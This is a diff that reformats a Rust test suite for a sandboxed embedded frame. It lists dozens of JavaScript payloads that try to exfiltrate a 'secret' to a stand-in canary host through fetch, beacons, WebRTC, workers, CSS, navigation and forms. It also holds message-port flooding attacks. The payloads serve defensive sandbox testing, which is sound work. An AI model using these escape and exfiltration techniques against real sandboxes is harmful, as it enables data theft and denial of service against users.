@@ -50,7 +50,10 @@ impl Canary {
         thread::spawn(move || {
             let mut packet = [0; 2048];
             while let Ok((length, from)) = udp.recv_from(&mut packet) {
-                of_udp.lock().expect("nobody panicked").push(format!("UDP {length} bytes from {from}"));
+                of_udp
+                    .lock()
+                    .expect("nobody panicked")
+                    .push(format!("UDP {length} bytes from {from}"));
             }
         });
         Canary { port, heard }
@@ -97,7 +100,8 @@ impl Stage {
     }
 
     fn open(&self, page: &Page) {
-        page.goto(&self.server.url(&self.href)).wait_until("customElements.get('neo-frame')");
+        page.goto(&self.server.url(&self.href))
+            .wait_until("customElements.get('neo-frame')");
         page.eval(
             "localStorage.clear(); window.heard = []; window.held = [];
              for (const what of ['state', 'console', 'error', 'beat', 'param']) document.addEventListener('frame:' + what, ({ detail }) => heard.push({ what, at: performance.now(), ...detail }));
@@ -114,7 +118,9 @@ impl Stage {
             "heard.length = 0; localStorage.clear(); document.querySelector('neo-frame').hold = true; document.querySelector('neo-frame').start({{ source: {} }})",
             json!(source)
         ));
-        page.wait_until(&format!("heard.some(one => one.what === 'console' && one.text === 'begun {name}')"));
+        page.wait_until(&format!(
+            "heard.some(one => one.what === 'console' && one.text === 'begun {name}')"
+        ));
     }
 
     fn source(&self, name: &str, attack: &str) -> String {
@@ -131,7 +137,9 @@ impl Stage {
 
     /// Ends the browser, so that its log is whole, and answers which names of the zone its network had to do with.
     fn names_in_log(self) -> Vec<String> {
-        let Stage { browser, log, server, .. } = self;
+        let Stage {
+            browser, log, server, ..
+        } = self;
         browser.close();
         drop(server);
         let text = std::fs::read_to_string(log.path().join("net.json")).expect("the browser wrote its log");
@@ -140,7 +148,9 @@ impl Stage {
         let mut names: Vec<String> = events
             .match_indices(&format!(".{ZONE}"))
             .map(|(at, _)| {
-                let begin = events[..at].rfind(|letter: char| !letter.is_ascii_alphanumeric() && letter != '-').map_or(0, |nth| nth + 1);
+                let begin = events[..at]
+                    .rfind(|letter: char| !letter.is_ascii_alphanumeric() && letter != '-')
+                    .map_or(0, |nth| nth + 1);
                 events[begin..at].to_owned()
             })
             .collect();
@@ -153,7 +163,9 @@ impl Stage {
 fn publish(person: &Person, mode: &str, source: &str) -> String {
     let made = person.post_json("/sandbox", &[("mode", mode), ("title", "hostile"), ("source", source)]);
     let href = made.expect(201).json()["href"].as_str().expect("a page").to_owned();
-    person.post_json(&format!("{href}/versions"), &[("publish", "on")]).expect(200);
+    person
+        .post_json(&format!("{href}/versions"), &[("publish", "on")])
+        .expect(200);
     href
 }
 
@@ -163,111 +175,344 @@ fn state(page: &Page) -> Value {
 
 /// What the page's own thread was held up by, at most, since it was opened; in milliseconds.
 fn held_up(page: &Page) -> f64 {
-    page.eval("Math.max(0, ...held.map(({ duration }) => duration))").as_f64().expect("a number")
+    page.eval("Math.max(0, ...held.map(({ duration }) => duration))")
+        .as_f64()
+        .expect("a number")
 }
 
 /// Roads to the network. Each leads to a name of its own: `HTTP` is `http://NAME.canary.test:PORT`.
 const ROADS: &[(&str, &str)] = &[
     ("fetch", "tryTo(() => fetch(HTTP))"),
-    ("fetch-no-cors", "tryTo(() => fetch(HTTP, { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true }))"),
-    ("fetch-later", "tryTo(() => fetchLater('https://' + AT, { activateAfter: 0 }))"),
-    ("xhr", "tryTo(() => { const x = new XMLHttpRequest(); x.open('GET', HTTP); x.send() })"),
+    (
+        "fetch-no-cors",
+        "tryTo(() => fetch(HTTP, { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true }))",
+    ),
+    (
+        "fetch-later",
+        "tryTo(() => fetchLater('https://' + AT, { activateAfter: 0 }))",
+    ),
+    (
+        "xhr",
+        "tryTo(() => { const x = new XMLHttpRequest(); x.open('GET', HTTP); x.send() })",
+    ),
     ("websocket", "tryTo(() => new WebSocket('ws://' + AT))"),
-    ("websocket-stream", "tryTo(() => new WebSocketStream('ws://' + AT).opened)"),
+    (
+        "websocket-stream",
+        "tryTo(() => new WebSocketStream('ws://' + AT).opened)",
+    ),
     ("event-source", "tryTo(() => new EventSource(HTTP))"),
     ("web-transport", "tryTo(() => new WebTransport('https://' + AT).ready)"),
     ("beacon", "tryTo(() => navigator.sendBeacon(HTTP, 'secret'))"),
-    ("image", "new Image().src = HTTP + '/i.gif'; add('img', { srcset: HTTP + '/2.gif 2x', loading: 'eager' })"),
-    ("image-input", "add('input', { type: 'image', src: HTTP }); add('body', { background: HTTP }); add('video', { poster: HTTP })"),
-    ("svg-image", "document.body.insertAdjacentHTML('beforeend', `<svg><image href=\"${HTTP}/a\"/><use href=\"${HTTP}/b#c\"/><filter id=f><feImage href=\"${HTTP}/d\"/></filter><rect width=9 height=9 filter=\"url(#f)\" fill=\"url(${HTTP}/e#g)\"/></svg>`)"),
-    ("media", "add('video', { src: HTTP, autoplay: '' }); add('audio', { src: HTTP, preload: 'auto' }); add('video').append(Object.assign(document.createElement('track'), { src: HTTP, default: true }))"),
-    ("css-import", "add('style').textContent = `@import url(${HTTP}/i.css); @import '${HTTP}/j.css' layer(x)`"),
-    ("css-images", "add('style').textContent = `body { background: url(${HTTP}/b); cursor: url(${HTTP}/c), auto; mask: url(${HTTP}/m); list-style: url(${HTTP}/l); border-image: url(${HTTP}/o) 1; content: url(${HTTP}/n); background: image-set('${HTTP}/s' 1x); shape-outside: url(${HTTP}/p); filter: url(${HTTP}/f#x) } body::after { content: url(${HTTP}/a) }`"),
-    ("font-face", "add('style').textContent = `@font-face { font-family: x; src: url(${HTTP}/f.woff2) } body { font-family: x }`; document.body.append('x'); tryTo(() => new FontFace('y', `url(${HTTP}/g.woff2)`).load())"),
-    ("stylesheet", "add('link', { rel: 'stylesheet', href: HTTP + '/s.css' }); document.body.insertAdjacentHTML('beforeend', `<link rel=stylesheet href=${HTTP}/t.css>`)"),
-    ("script", "add('script', { src: HTTP + '/x.js' }); add('script', { src: HTTP + '/m.js', type: 'module' })"),
-    ("import", "tryTo(() => import(HTTP + '/m.js')); add('script', { type: 'module' }).textContent = `import '${HTTP}/n.js'`"),
-    ("import-map", "add('script', { type: 'importmap' }).textContent = JSON.stringify({ imports: { x: HTTP + '/x.js' } }); tryTo(() => import('x'))"),
-    ("module-preload", "add('link', { rel: 'modulepreload', href: HTTP + '/m.js' })"),
-    ("preload", "for (const as of ['script', 'style', 'image', 'font', 'fetch', 'track', 'audio', 'video', 'document', 'worker', 'object', 'embed', 'json']) add('link', { rel: 'preload', as, href: HTTP + '/' + as })"),
-    ("prefetch", "add('link', { rel: 'prefetch', href: HTTP + '/p' }); add('link', { rel: 'prerender', href: HTTP + '/q' }); add('link', { rel: 'next', href: HTTP + '/n' })"),
-    ("speculation-prefetch", "for (const eagerness of ['immediate', 'eager', 'moderate']) add('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [HTTP + '/s'], eagerness, referrer_policy: 'no-referrer' }] })"),
-    ("speculation-prerender", "add('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prerender: [{ source: 'list', urls: [HTTP + '/s'], eagerness: 'immediate' }], prefetch: [{ where: { href_matches: '/*' }, eagerness: 'immediate' }] }); add('a', { href: HTTP + '/t' }).textContent = 'x'"),
-    ("dns-prefetch", "add('link', { rel: 'dns-prefetch', href: '//' + HOST }); document.head.insertAdjacentHTML('beforeend', `<link rel=dns-prefetch href=http://x.${HOST}>`)"),
-    ("dns-prefetch-on", "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=x-dns-prefetch-control content=on>'); for (const scheme of ['http:', 'https:', '']) add('a', { href: scheme + '//' + HOST }).textContent = 'a link whose name may be looked up'"),
-    ("preconnect", "add('link', { rel: 'preconnect', href: HTTP }); add('link', { rel: 'preconnect', href: HTTP, crossorigin: '' }); document.head.insertAdjacentHTML('beforeend', `<link rel=preconnect href=${HTTP}>`)"),
-    ("preconnect-shadow", "add('div').attachShadow({ mode: 'closed' }).innerHTML = `<link rel=preconnect href=${HTTP}><link rel=dns-prefetch href=${HTTP}>`"),
-    ("other-links", "for (const rel of ['icon', 'apple-touch-icon', 'manifest', 'search', 'pingback', 'import', 'subresource', 'webbundle', 'compression-dictionary', 'expect', 'author', 'license', 'alternate stylesheet']) add('link', { rel, href: HTTP + '/' + rel.replace(' ', '') })"),
-    ("webrtc-stun", "tryTo(() => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + PORT }, { urls: 'stun:' + AT }] }); p.createDataChannel('x'); return p.createOffer().then((o) => p.setLocalDescription(o)) })"),
-    ("webrtc-turn", "tryTo(() => { const p = new RTCPeerConnection({ iceServers: [{ urls: ['turn:' + AT + '?transport=tcp', 'turn:127.0.0.1:' + PORT + '?transport=tcp', 'turn:127.0.0.1:' + PORT], username: 'secret', credential: 'x' }], iceTransportPolicy: 'relay' }); p.createDataChannel('x'); return p.createOffer().then((o) => p.setLocalDescription(o)) })"),
-    ("webrtc-peer", "tryTo(async () => { const p = new RTCPeerConnection(), q = new RTCPeerConnection(); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await q.setRemoteDescription(p.localDescription); await q.setLocalDescription(await q.createAnswer()); await p.setRemoteDescription(q.localDescription); for (const [where, how] of [['127.0.0.1', 'udp'], [HOST, 'udp'], ['127.0.0.1', 'tcp']]) await p.addIceCandidate({ candidate: `candidate:1 1 ${how} 2113937151 ${where} ${PORT} typ host${how === 'tcp' ? ' tcptype passive' : ''}`, sdpMid: '0', sdpMLineIndex: 0 }) })"),
-    ("webrtc-nested", "const inner = `<script>for (const url of ['stun:127.0.0.1:${PORT}', 'stun:${AT}']) { const p = new RTCPeerConnection({ iceServers: [{ urls: url }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) }<\\/script>`; add('iframe', { srcdoc: inner }); add('iframe', { src: 'data:text/html,' + encodeURIComponent(inner) })"),
-    ("nested-frames", "add('iframe', { src: HTTP }); add('object', { data: HTTP }); add('embed', { src: HTTP }); add('iframe', { srcdoc: `<img src=${HTTP}/i><link rel=preconnect href=${HTTP}><script>fetch('${HTTP}')<\\/script>` }); add('iframe', { src: `javascript:fetch('${HTTP}')` }); add('fencedframe', { src: HTTP })"),
-    ("nested-blank", "const blank = add('iframe'); tryTo(() => blank.contentWindow.fetch(HTTP)); tryTo(() => { blank.contentDocument.write(`<img src=${HTTP}>`) })"),
-    ("blob-worker", "tryTo(() => new Worker(URL.createObjectURL(new Blob([`fetch('${HTTP}')`]))))"),
-    ("data-worker", "tryTo(() => new Worker(`data:text/javascript,fetch('${HTTP}')`)); tryTo(() => new SharedWorker(`data:text/javascript,fetch('${HTTP}')`)); tryTo(() => new Worker(`data:text/javascript,import '${HTTP}'`, { type: 'module' }))"),
-    ("library-worker", "tryTo(() => new Worker(document.querySelector('script[src]').src)); tryTo(() => new Worker(HTTP + '/w.js'))"),
-    ("worklets", "tryTo(() => new AudioContext().audioWorklet.addModule(HTTP + '/a.js')); tryTo(() => CSS.paintWorklet.addModule(HTTP + '/p.js')); tryTo(() => new AudioContext().audioWorklet.addModule(`data:text/javascript,import '${HTTP}'`))"),
-    ("service-worker", "tryTo(() => navigator.serviceWorker.register(HTTP + '/sw.js')); tryTo(() => navigator.serviceWorker.register('/sw.js'))"),
+    (
+        "image",
+        "new Image().src = HTTP + '/i.gif'; add('img', { srcset: HTTP + '/2.gif 2x', loading: 'eager' })",
+    ),
+    (
+        "image-input",
+        "add('input', { type: 'image', src: HTTP }); add('body', { background: HTTP }); add('video', { poster: HTTP })",
+    ),
+    (
+        "svg-image",
+        "document.body.insertAdjacentHTML('beforeend', `<svg><image href=\"${HTTP}/a\"/><use href=\"${HTTP}/b#c\"/><filter id=f><feImage href=\"${HTTP}/d\"/></filter><rect width=9 height=9 filter=\"url(#f)\" fill=\"url(${HTTP}/e#g)\"/></svg>`)",
+    ),
+    (
+        "media",
+        "add('video', { src: HTTP, autoplay: '' }); add('audio', { src: HTTP, preload: 'auto' }); add('video').append(Object.assign(document.createElement('track'), { src: HTTP, default: true }))",
+    ),
+    (
+        "css-import",
+        "add('style').textContent = `@import url(${HTTP}/i.css); @import '${HTTP}/j.css' layer(x)`",
+    ),
+    (
+        "css-images",
+        "add('style').textContent = `body { background: url(${HTTP}/b); cursor: url(${HTTP}/c), auto; mask: url(${HTTP}/m); list-style: url(${HTTP}/l); border-image: url(${HTTP}/o) 1; content: url(${HTTP}/n); background: image-set('${HTTP}/s' 1x); shape-outside: url(${HTTP}/p); filter: url(${HTTP}/f#x) } body::after { content: url(${HTTP}/a) }`",
+    ),
+    (
+        "font-face",
+        "add('style').textContent = `@font-face { font-family: x; src: url(${HTTP}/f.woff2) } body { font-family: x }`; document.body.append('x'); tryTo(() => new FontFace('y', `url(${HTTP}/g.woff2)`).load())",
+    ),
+    (
+        "stylesheet",
+        "add('link', { rel: 'stylesheet', href: HTTP + '/s.css' }); document.body.insertAdjacentHTML('beforeend', `<link rel=stylesheet href=${HTTP}/t.css>`)",
+    ),
+    (
+        "script",
+        "add('script', { src: HTTP + '/x.js' }); add('script', { src: HTTP + '/m.js', type: 'module' })",
+    ),
+    (
+        "import",
+        "tryTo(() => import(HTTP + '/m.js')); add('script', { type: 'module' }).textContent = `import '${HTTP}/n.js'`",
+    ),
+    (
+        "import-map",
+        "add('script', { type: 'importmap' }).textContent = JSON.stringify({ imports: { x: HTTP + '/x.js' } }); tryTo(() => import('x'))",
+    ),
+    (
+        "module-preload",
+        "add('link', { rel: 'modulepreload', href: HTTP + '/m.js' })",
+    ),
+    (
+        "preload",
+        "for (const as of ['script', 'style', 'image', 'font', 'fetch', 'track', 'audio', 'video', 'document', 'worker', 'object', 'embed', 'json']) add('link', { rel: 'preload', as, href: HTTP + '/' + as })",
+    ),
+    (
+        "prefetch",
+        "add('link', { rel: 'prefetch', href: HTTP + '/p' }); add('link', { rel: 'prerender', href: HTTP + '/q' }); add('link', { rel: 'next', href: HTTP + '/n' })",
+    ),
+    (
+        "speculation-prefetch",
+        "for (const eagerness of ['immediate', 'eager', 'moderate']) add('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [HTTP + '/s'], eagerness, referrer_policy: 'no-referrer' }] })",
+    ),
+    (
+        "speculation-prerender",
+        "add('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prerender: [{ source: 'list', urls: [HTTP + '/s'], eagerness: 'immediate' }], prefetch: [{ where: { href_matches: '/*' }, eagerness: 'immediate' }] }); add('a', { href: HTTP + '/t' }).textContent = 'x'",
+    ),
+    (
+        "dns-prefetch",
+        "add('link', { rel: 'dns-prefetch', href: '//' + HOST }); document.head.insertAdjacentHTML('beforeend', `<link rel=dns-prefetch href=http://x.${HOST}>`)",
+    ),
+    (
+        "dns-prefetch-on",
+        "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=x-dns-prefetch-control content=on>'); for (const scheme of ['http:', 'https:', '']) add('a', { href: scheme + '//' + HOST }).textContent = 'a link whose name may be looked up'",
+    ),
+    (
+        "preconnect",
+        "add('link', { rel: 'preconnect', href: HTTP }); add('link', { rel: 'preconnect', href: HTTP, crossorigin: '' }); document.head.insertAdjacentHTML('beforeend', `<link rel=preconnect href=${HTTP}>`)",
+    ),
+    (
+        "preconnect-shadow",
+        "add('div').attachShadow({ mode: 'closed' }).innerHTML = `<link rel=preconnect href=${HTTP}><link rel=dns-prefetch href=${HTTP}>`",
+    ),
+    (
+        "other-links",
+        "for (const rel of ['icon', 'apple-touch-icon', 'manifest', 'search', 'pingback', 'import', 'subresource', 'webbundle', 'compression-dictionary', 'expect', 'author', 'license', 'alternate stylesheet']) add('link', { rel, href: HTTP + '/' + rel.replace(' ', '') })",
+    ),
+    (
+        "webrtc-stun",
+        "tryTo(() => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + PORT }, { urls: 'stun:' + AT }] }); p.createDataChannel('x'); return p.createOffer().then((o) => p.setLocalDescription(o)) })",
+    ),
+    (
+        "webrtc-turn",
+        "tryTo(() => { const p = new RTCPeerConnection({ iceServers: [{ urls: ['turn:' + AT + '?transport=tcp', 'turn:127.0.0.1:' + PORT + '?transport=tcp', 'turn:127.0.0.1:' + PORT], username: 'secret', credential: 'x' }], iceTransportPolicy: 'relay' }); p.createDataChannel('x'); return p.createOffer().then((o) => p.setLocalDescription(o)) })",
+    ),
+    (
+        "webrtc-peer",
+        "tryTo(async () => { const p = new RTCPeerConnection(), q = new RTCPeerConnection(); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await q.setRemoteDescription(p.localDescription); await q.setLocalDescription(await q.createAnswer()); await p.setRemoteDescription(q.localDescription); for (const [where, how] of [['127.0.0.1', 'udp'], [HOST, 'udp'], ['127.0.0.1', 'tcp']]) await p.addIceCandidate({ candidate: `candidate:1 1 ${how} 2113937151 ${where} ${PORT} typ host${how === 'tcp' ? ' tcptype passive' : ''}`, sdpMid: '0', sdpMLineIndex: 0 }) })",
+    ),
+    (
+        "webrtc-nested",
+        "const inner = `<script>for (const url of ['stun:127.0.0.1:${PORT}', 'stun:${AT}']) { const p = new RTCPeerConnection({ iceServers: [{ urls: url }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) }<\\/script>`; add('iframe', { srcdoc: inner }); add('iframe', { src: 'data:text/html,' + encodeURIComponent(inner) })",
+    ),
+    (
+        "nested-frames",
+        "add('iframe', { src: HTTP }); add('object', { data: HTTP }); add('embed', { src: HTTP }); add('iframe', { srcdoc: `<img src=${HTTP}/i><link rel=preconnect href=${HTTP}><script>fetch('${HTTP}')<\\/script>` }); add('iframe', { src: `javascript:fetch('${HTTP}')` }); add('fencedframe', { src: HTTP })",
+    ),
+    (
+        "nested-blank",
+        "const blank = add('iframe'); tryTo(() => blank.contentWindow.fetch(HTTP)); tryTo(() => { blank.contentDocument.write(`<img src=${HTTP}>`) })",
+    ),
+    (
+        "blob-worker",
+        "tryTo(() => new Worker(URL.createObjectURL(new Blob([`fetch('${HTTP}')`]))))",
+    ),
+    (
+        "data-worker",
+        "tryTo(() => new Worker(`data:text/javascript,fetch('${HTTP}')`)); tryTo(() => new SharedWorker(`data:text/javascript,fetch('${HTTP}')`)); tryTo(() => new Worker(`data:text/javascript,import '${HTTP}'`, { type: 'module' }))",
+    ),
+    (
+        "library-worker",
+        "tryTo(() => new Worker(document.querySelector('script[src]').src)); tryTo(() => new Worker(HTTP + '/w.js'))",
+    ),
+    (
+        "worklets",
+        "tryTo(() => new AudioContext().audioWorklet.addModule(HTTP + '/a.js')); tryTo(() => CSS.paintWorklet.addModule(HTTP + '/p.js')); tryTo(() => new AudioContext().audioWorklet.addModule(`data:text/javascript,import '${HTTP}'`))",
+    ),
+    (
+        "service-worker",
+        "tryTo(() => navigator.serviceWorker.register(HTTP + '/sw.js')); tryTo(() => navigator.serviceWorker.register('/sw.js'))",
+    ),
     ("ping", "const a = add('a', { href: '#here', ping: HTTP }); a.click()"),
-    ("attribution", "add('img', { attributionsrc: HTTP, src: 'data:,' }); add('script', { attributionsrc: HTTP, src: 'data:,' }); const a = add('a', { href: '#x', attributionsrc: HTTP }); a.click()"),
-    ("csp-report", "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=content-security-policy content=\"img-src 'none'; report-uri ${HTTP}; report-to x\"><meta http-equiv=reporting-endpoints content='x=\"${HTTP}\"'><meta http-equiv=nel content='{}'>`); new Image().src = 'data:,x'"),
-    ("base", "document.head.insertAdjacentHTML('beforeend', `<base href=${HTTP}/>`); add('img', { src: 'relative.gif' }); tryTo(() => fetch('relative'))"),
-    ("xslt", "tryTo(() => { const t = new DOMParser().parseFromString(`<?xml version='1.0'?><x:stylesheet version='1.0' xmlns:x='http://www.w3.org/1999/XSL/Transform'><x:import href='${HTTP}/x'/><x:template match='/'><x:copy-of select=\"document('${HTTP}/d')\"/></x:template></x:stylesheet>`, 'text/xml'); const p = new XSLTProcessor(); p.importStylesheet(t); p.transformToFragment(t, document) }); tryTo(() => new DOMParser().parseFromString(`<!DOCTYPE x SYSTEM '${HTTP}/e.dtd'><x/>`, 'text/xml'))"),
-    ("media-session", "tryTo(() => { navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: HTTP + '/a.png', sizes: '512x512', type: 'image/png' }] }); navigator.mediaSession.playbackState = 'playing' }); tryTo(() => { const c = new AudioContext(); const o = c.createOscillator(); o.connect(c.destination); o.start() })"),
-    ("payment", "tryTo(() => new PaymentRequest([{ supportedMethods: HTTP + '/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment())"),
-    ("credentials", "tryTo(() => navigator.credentials.get({ identity: { providers: [{ configURL: HTTP + '/c.json', clientId: 'x' }] } })); tryTo(() => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: HOST } }))"),
-    ("notification", "tryTo(() => new Notification('x', { icon: HTTP + '/i', image: HTTP + '/j' })); tryTo(() => navigator.getInstalledRelatedApps?.()); tryTo(() => navigator.share?.({ url: HTTP })); tryTo(() => navigator.registerProtocolHandler('web+x', HTTP + '/%s'))"),
-    ("presentation", "tryTo(() => new PresentationRequest(HTTP).start()); tryTo(() => new PresentationRequest(HTTP).getAvailability()); tryTo(() => document.createElement('video').remote?.prompt())"),
-    ("shared-storage", "tryTo(() => sharedStorage.worklet.addModule(HTTP + '/s.js')); tryTo(() => navigator.joinAdInterestGroup({ owner: 'https://' + HOST, name: 'x', biddingLogicURL: 'https://' + AT }, 9)); tryTo(() => navigator.runAdAuction({ seller: 'https://' + HOST, decisionLogicURL: 'https://' + AT })); tryTo(() => document.browsingTopics())"),
-    ("web-bundle", "add('script', { type: 'webbundle' }).textContent = JSON.stringify({ source: HTTP + '/b.wbn', resources: [HTTP + '/r'] }); add('link', { rel: 'webbundle', href: HTTP + '/c.wbn' })"),
-    ("window-open", "tryTo(() => open(HTTP)); tryTo(() => open(HTTP, '_top')); tryTo(() => open('about:blank').location = HTTP); const a = add('a', { href: HTTP, target: '_blank', rel: 'opener' }); a.click()"),
-    ("top-navigation", "tryTo(() => { top.location = HTTP }); tryTo(() => { parent.location.href = HTTP }); tryTo(() => top.location.replace(HTTP)); tryTo(() => top.navigation?.navigate(HTTP)); const a = add('a', { href: HTTP, target: '_top' }); a.click(); const b = add('a', { href: HTTP, target: '_parent' }); b.click()"),
-    ("form", "const f = add('form', { action: HTTP, method: 'post' }); tryTo(() => f.submit()); const g = add('form', { action: HTTP, target: '_top' }); tryTo(() => g.requestSubmit()); const h = add('form', { method: 'dialog' }); h.append(Object.assign(document.createElement('button'), { formAction: HTTP })); h.querySelector('button').click()"),
-    ("download", "add('a', { href: HTTP + '/f', download: 'f' }).click(); add('a', { href: 'data:text/plain,x', download: 'f.txt' }).click()"),
+    (
+        "attribution",
+        "add('img', { attributionsrc: HTTP, src: 'data:,' }); add('script', { attributionsrc: HTTP, src: 'data:,' }); const a = add('a', { href: '#x', attributionsrc: HTTP }); a.click()",
+    ),
+    (
+        "csp-report",
+        "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=content-security-policy content=\"img-src 'none'; report-uri ${HTTP}; report-to x\"><meta http-equiv=reporting-endpoints content='x=\"${HTTP}\"'><meta http-equiv=nel content='{}'>`); new Image().src = 'data:,x'",
+    ),
+    (
+        "base",
+        "document.head.insertAdjacentHTML('beforeend', `<base href=${HTTP}/>`); add('img', { src: 'relative.gif' }); tryTo(() => fetch('relative'))",
+    ),
+    (
+        "xslt",
+        "tryTo(() => { const t = new DOMParser().parseFromString(`<?xml version='1.0'?><x:stylesheet version='1.0' xmlns:x='http://www.w3.org/1999/XSL/Transform'><x:import href='${HTTP}/x'/><x:template match='/'><x:copy-of select=\"document('${HTTP}/d')\"/></x:template></x:stylesheet>`, 'text/xml'); const p = new XSLTProcessor(); p.importStylesheet(t); p.transformToFragment(t, document) }); tryTo(() => new DOMParser().parseFromString(`<!DOCTYPE x SYSTEM '${HTTP}/e.dtd'><x/>`, 'text/xml'))",
+    ),
+    (
+        "media-session",
+        "tryTo(() => { navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: HTTP + '/a.png', sizes: '512x512', type: 'image/png' }] }); navigator.mediaSession.playbackState = 'playing' }); tryTo(() => { const c = new AudioContext(); const o = c.createOscillator(); o.connect(c.destination); o.start() })",
+    ),
+    (
+        "payment",
+        "tryTo(() => new PaymentRequest([{ supportedMethods: HTTP + '/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment())",
+    ),
+    (
+        "credentials",
+        "tryTo(() => navigator.credentials.get({ identity: { providers: [{ configURL: HTTP + '/c.json', clientId: 'x' }] } })); tryTo(() => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: HOST } }))",
+    ),
+    (
+        "notification",
+        "tryTo(() => new Notification('x', { icon: HTTP + '/i', image: HTTP + '/j' })); tryTo(() => navigator.getInstalledRelatedApps?.()); tryTo(() => navigator.share?.({ url: HTTP })); tryTo(() => navigator.registerProtocolHandler('web+x', HTTP + '/%s'))",
+    ),
+    (
+        "presentation",
+        "tryTo(() => new PresentationRequest(HTTP).start()); tryTo(() => new PresentationRequest(HTTP).getAvailability()); tryTo(() => document.createElement('video').remote?.prompt())",
+    ),
+    (
+        "shared-storage",
+        "tryTo(() => sharedStorage.worklet.addModule(HTTP + '/s.js')); tryTo(() => navigator.joinAdInterestGroup({ owner: 'https://' + HOST, name: 'x', biddingLogicURL: 'https://' + AT }, 9)); tryTo(() => navigator.runAdAuction({ seller: 'https://' + HOST, decisionLogicURL: 'https://' + AT })); tryTo(() => document.browsingTopics())",
+    ),
+    (
+        "web-bundle",
+        "add('script', { type: 'webbundle' }).textContent = JSON.stringify({ source: HTTP + '/b.wbn', resources: [HTTP + '/r'] }); add('link', { rel: 'webbundle', href: HTTP + '/c.wbn' })",
+    ),
+    (
+        "window-open",
+        "tryTo(() => open(HTTP)); tryTo(() => open(HTTP, '_top')); tryTo(() => open('about:blank').location = HTTP); const a = add('a', { href: HTTP, target: '_blank', rel: 'opener' }); a.click()",
+    ),
+    (
+        "top-navigation",
+        "tryTo(() => { top.location = HTTP }); tryTo(() => { parent.location.href = HTTP }); tryTo(() => top.location.replace(HTTP)); tryTo(() => top.navigation?.navigate(HTTP)); const a = add('a', { href: HTTP, target: '_top' }); a.click(); const b = add('a', { href: HTTP, target: '_parent' }); b.click()",
+    ),
+    (
+        "form",
+        "const f = add('form', { action: HTTP, method: 'post' }); tryTo(() => f.submit()); const g = add('form', { action: HTTP, target: '_top' }); tryTo(() => g.requestSubmit()); const h = add('form', { method: 'dialog' }); h.append(Object.assign(document.createElement('button'), { formAction: HTTP })); h.querySelector('button').click()",
+    ),
+    (
+        "download",
+        "add('a', { href: HTTP + '/f', download: 'f' }).click(); add('a', { href: 'data:text/plain,x', download: 'f.txt' }).click()",
+    ),
     ("self-location", "location = HTTP + '/?secret'"),
     ("self-replace", "location.replace('https://' + AT + '/?secret')"),
     ("self-navigation-api", "tryTo(() => navigation.navigate(HTTP).finished)"),
     ("self-link", "add('a', { href: HTTP }).click()"),
-    ("self-refresh", "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${HTTP}'>`)"),
-    ("self-data", "location = `data:text/html,<script>fetch('${HTTP}');location='${HTTP}'<\\/script><img src=${HTTP}>`"),
-    ("self-blob", "location = URL.createObjectURL(new Blob([`<script>fetch('${HTTP}');location='${HTTP}'<\\/script><img src=${HTTP}>`], { type: 'text/html' }))"),
-    ("self-javascript", "location = `javascript:fetch('${HTTP}'),'<img src=${HTTP}><link rel=preconnect href=${HTTP}>'`"),
-    ("self-write", "document.open(); document.write(`<html><head><link rel=preconnect href=${HTTP}></head><img src=${HTTP}><script>fetch('${HTTP}')<\\/script>`); document.close()"),
-    ("self-host", "location = location.origin === 'null' ? document.URL.replace(/frame.*/, 'wall/ana?leak=' + HOST) : '/'"),
+    (
+        "self-refresh",
+        "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${HTTP}'>`)",
+    ),
+    (
+        "self-data",
+        "location = `data:text/html,<script>fetch('${HTTP}');location='${HTTP}'<\\/script><img src=${HTTP}>`",
+    ),
+    (
+        "self-blob",
+        "location = URL.createObjectURL(new Blob([`<script>fetch('${HTTP}');location='${HTTP}'<\\/script><img src=${HTTP}>`], { type: 'text/html' }))",
+    ),
+    (
+        "self-javascript",
+        "location = `javascript:fetch('${HTTP}'),'<img src=${HTTP}><link rel=preconnect href=${HTTP}>'`",
+    ),
+    (
+        "self-write",
+        "document.open(); document.write(`<html><head><link rel=preconnect href=${HTTP}></head><img src=${HTTP}><script>fetch('${HTTP}')<\\/script>`); document.close()",
+    ),
+    (
+        "self-host",
+        "location = location.origin === 'null' ? document.URL.replace(/frame.*/, 'wall/ana?leak=' + HOST) : '/'",
+    ),
 ];
 
 /// Attacks that the page around has to answer by taking the frame away, and what it says then.
 const ENDED: &[(&str, &str, &str)] = &[
-    ("flood-port", "const post = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (...all) { for (let i = 0; i < 100000; i++) post.apply(this, all); return post.apply(this, all) }", "too much at once"),
-    ("large-port", "const post = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function () { post.call(this, JSON.stringify({ type: 'console', lines: [], more: 'x'.repeat(5000) })) }", "too long"),
-    ("graph-port", "const post = MessagePort.prototype.postMessage; const much = []; for (let i = 0; i < 500000; i++) much.push({ i, in: { i } }); MessagePort.prototype.postMessage = function () { post.call(this, much) }", "said something"),
